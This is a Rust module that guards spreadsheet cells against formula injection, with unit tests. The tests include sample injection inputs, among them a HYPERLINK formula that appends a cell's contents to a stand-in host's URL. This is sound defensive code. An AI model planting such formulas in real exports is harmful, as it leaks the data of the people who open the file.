//! Cells for files people open in a spreadsheet (the ledger, the mailbox log, the
//! contacts export).

use std::borrow::Cow;

/// A cell as a spreadsheet shows it and never runs it: text that came from outside (a
/// mail server's reply, a bounce's diagnostic, a stranger's subject or sender) and
/// starts like a formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading
/// apostrophe, as OWASP advises for CSV exports.
pub fn safe(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// Whether a spreadsheet would take `text` for a formula, leading apostrophes aside
/// (what [`guard`] protects and [`unguard`] recognises).
fn looks_like_formula(text: &str) -> bool {
    text.trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell of a file Tandem reads back (the contacts export): like [`safe`], and also
/// for text that already starts with apostrophes before a formula, so that [`unguard`]
/// gives back exactly what was written — a name like "'t Hooft" is left as it is.
pub fn guard(text: &str) -> Cow<'_, str> {
    if looks_like_formula(text) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The cell as it was before [`guard`]: `unguard(guard(x)) == x` for every text.
pub fn unguard(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if looks_like_formula(rest) => rest,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_guarded_cell_reads_back_as_it_was() {
        for text in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "@SUM(1+1)",
            "+32 2 210 94 91",
            "'=already quoted",
            "''=twice",
            "'t Hooft",
            "'",
            "",
            "Désinscription",
            "-",
        ] {
            assert_eq!(unguard(&guard(text)), text, "{text:?}");
        }
        assert_eq!(guard("@SUM(1+1)"), "'@SUM(1+1)");
        assert_eq!(guard("'t Hooft"), "'t Hooft");
        assert_eq!(unguard("'t Hooft"), "'t Hooft");
    }

    #[test]
    fn what_came_from_outside_cannot_run_as_a_formula() {
        assert_eq!(
            safe("=HYPERLINK(\"http://x\")"),
            "'=HYPERLINK(\"http://x\")"
        );
        assert_eq!(safe("+32 2 000"), "'+32 2 000");
        assert_eq!(safe("-1+1"), "'-1+1");
        assert_eq!(safe("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(safe("\t=1"), "'\t=1");
        assert_eq!(safe("Désinscription"), "Désinscription");
        assert_eq!(safe("550 5.1.1 =x"), "550 5.1.1 =x");
        assert_eq!(safe(""), "");
    }
}
